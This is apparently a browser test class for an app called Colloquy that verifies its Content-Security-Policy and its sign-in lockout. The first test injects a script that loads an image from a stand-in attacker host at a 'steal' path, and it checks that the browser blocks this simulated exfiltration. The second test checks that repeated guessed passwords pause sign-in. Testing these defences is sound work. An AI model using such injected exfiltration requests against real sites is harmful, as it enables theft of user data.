package org.colloquy.journeys;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Chromium enforces Colloquy's Content-Security-Policy: Vaadin's own pages run under it, and what an injected
 * script would try (loading from or sending to another site) is blocked. Every other journey also fails on any
 * violation (see {@link BrowserJourney}).
 */
class ContentSecurityPolicyJourney extends BrowserJourney {

    @Test
    void a_student_works_under_the_policy_and_a_foreign_request_is_blocked() {
        signIn("ana", "colloquy");
        page.getByText("Open the course").click();
        page.locator("#lesson-three-stages a").click();
        assertThat(page.locator(".step-counter")).containsText("of 8");
        assertThat(policyViolations()).as("Colloquy's own pages under the policy").isEmpty();

        page.evaluate("() => { const img = new Image(); img.src = 'https://attacker.invalid/steal?x=1';"
                + " document.body.appendChild(img); }");
        page.waitForCondition(() -> !policyViolations().isEmpty());

        List<String> blocked = policyViolations();
        assertThat(blocked).singleElement().asString().contains("img-src", "attacker.invalid");
        forgetPolicyViolations();
    }

    @Test
    void repeated_wrong_passwords_pause_signing_in_with_a_message_that_says_until_when() {
        page.navigate(url("login"));
        for (int i = 1; i <= 5; i++) {
            page.locator("input[name='username']").fill("mallory-guesses");
            page.locator("input[name='password']").fill("wrong-" + i);
            page.locator("vaadin-button[slot='submit'], button[type='submit']").first().click();
            page.waitForURL(url -> url.contains("/login?"));
        }
        assertThat(page.locator("vaadin-login-form")).containsText("Signing in is paused");
        assertThat(page.locator("vaadin-login-form")).containsText("Try again at");
        screenshot("security-01-sign-in-paused");
    }
}
